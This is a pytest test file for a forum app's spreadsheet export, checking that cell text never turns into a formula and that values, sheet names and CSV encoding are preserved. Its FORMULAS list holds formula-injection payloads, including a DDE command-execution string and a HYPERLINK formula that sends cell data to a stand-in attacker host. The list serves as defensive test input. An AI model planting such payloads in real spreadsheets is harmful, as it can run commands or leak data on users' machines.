"""Tables that people open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zipfile import ZipFile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from forumapp.render import sheets
from forumapp.render.sheets import Cell, Table
from tests.programmes import LONG_NAME

WRITTEN_AT = datetime(2027, 2, 1, 8, 30, tzinfo=UTC)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+95 1 234 567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)


def a_table(*cells: Cell, title: str = "Registrations") -> Table:
    return Table(title=title, headings=("Name",), rows=[[cell] for cell in cells])


def a_sheet(table: Table) -> Worksheet:
    book = load_workbook(io.BytesIO(sheets.xlsx(table, written_at=WRITTEN_AT)))
    assert isinstance(book.active, Worksheet)
    return book.active


def read_csv(table: Table) -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheets.csv(table).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_in_a_workbook(text: str) -> None:
    table = Table(title=text, headings=(text,), rows=[[text]])
    sheet = a_sheet(table)
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n")
        assert cell.quotePrefix
    with ZipFile(io.BytesIO(sheets.xlsx(table, written_at=WRITTEN_AT))) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_in_csv(text: str) -> None:
    table = Table(title=text, headings=(text,), rows=[[text]])
    held = "'" + text.replace("\r", "\n")
    assert read_csv(table) == [[held], [held]]


def test_numbers_and_dates_stay_what_they_are() -> None:
    cells = (-5, 2.5, True, date(2027, 3, 9), datetime(2027, 3, 9, 9, 15), None, "")  # noqa: DTZ001  a wall time
    sheet = a_sheet(a_table(*cells))
    assert [row[0] for row in sheet.iter_rows(min_row=2, max_row=6, values_only=True)] == [
        -5,
        2.5,
        True,
        datetime(2027, 3, 9),  # noqa: DTZ001  a wall time
        datetime(2027, 3, 9, 9, 15),  # noqa: DTZ001  a wall time
    ]
    assert [row[0] if row else "" for row in read_csv(a_table(*cells))[1:]] == [
        "-5",
        "2.5",
        "TRUE",
        "2027-03-09",
        "2027-03-09 09:15",
        "",
        "",
    ]


def test_what_a_spreadsheet_s_types_can_t_hold_is_text() -> None:
    cells = (WRITTEN_AT, date(1889, 1, 2), float("inf"), float("nan"))
    sheet = a_sheet(a_table(*cells))
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "2027-02-01 08:30+00:00",
        "1889-01-02",
        "inf",
        "nan",
    ]


def test_a_workbook_is_ready_to_be_worked_with() -> None:
    table = Table(
        title="Registrations",
        headings=("Name", "Country"),
        rows=[["ZHANG Wenhuilan 张文慧兰", "China"], [LONG_NAME, "Cambodia"]],
    )
    sheet = a_sheet(table)
    assert sheet.title == "Registrations"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet["A1"].font.b
    assert sheet["A3"].value == LONG_NAME
    assert 8 <= sheet.column_dimensions["B"].width < sheet.column_dimensions["A"].width <= 61


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Registrations: June [draft]", "Registrations June draft"),
        ("a/b\\c?d*e", "a b c d e"),
        ("x" * 40, "x" * 31),
        ("", "Sheet"),
        ("'", "Sheet"),
        ("History", "Sheet"),
        ("登记名单", "登记名单"),
    ],
)
def test_any_title_gives_a_sheet_a_name(title: str, name: str) -> None:
    assert a_sheet(a_table(title=title)).title == name


def test_a_text_beyond_what_a_cell_holds_is_cut_visibly() -> None:
    held = a_sheet(a_table("x" * 40_000))["A2"].value
    assert isinstance(held, str)
    assert len(held) == sheets.LONGEST_TEXT
    assert held.endswith("x…")


def test_csv_begins_with_a_byte_order_mark_and_has_crlf() -> None:
    data = sheets.csv(Table(title="x", headings=("Name", "Town"), rows=[["张文慧兰", 'a,"b"']]))
    assert data == b"\xef\xbb\xbfName,Town\r\n" + '张文慧兰,"a,""b"""\r\n'.encode()


def test_an_empty_table_has_its_headings() -> None:
    assert read_csv(a_table()) == [["Name"]]
    assert a_sheet(a_table())["A1"].value == "Name"
    nothing = Table(title="x", headings=(), rows=())
    assert a_sheet(nothing).max_row == 1


@settings(deadline=None)
@given(text=st.text(st.characters(exclude_categories=()), max_size=100))
@example("\udcff\ufffe\x00\x0b")
@example("<b>&amp;</b>")
def test_any_text_reads_back_the_same(text: str) -> None:
    plain = "".join(
        c
        for c in text.replace("\r\n", "\n").replace("\r", "\n")
        if c in "\t\n"
        or (c >= " " and c not in "\x7f\ufffe\uffff" and not "\ud800" <= c <= "\udfff")
    )
    table = a_table("first", text)
    if "_x" not in plain:  # Excel's own escape, which openpyxl leaves as it stands
        assert (a_sheet(table)["A3"].value or "") == plain
    read = read_csv(table)[2]
    assert (read[0] if read else "") in (plain, f"'{plain}")


def test_the_same_table_gives_the_same_bytes() -> None:
    first, second = (
        sheets.xlsx(a_table("a", "b"), written_at=WRITTEN_AT),
        sheets.xlsx(a_table("a", "b"), written_at=WRITTEN_AT),
    )
    assert first == second
